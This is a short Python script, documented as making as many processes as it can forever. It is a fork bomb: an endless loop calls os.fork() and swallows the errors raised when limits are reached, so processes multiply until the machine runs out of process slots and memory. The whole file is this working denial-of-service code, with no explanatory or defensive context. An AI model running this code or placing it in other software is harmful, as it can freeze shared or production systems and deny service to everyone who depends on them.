"""Makes as many processes as it can, for ever."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
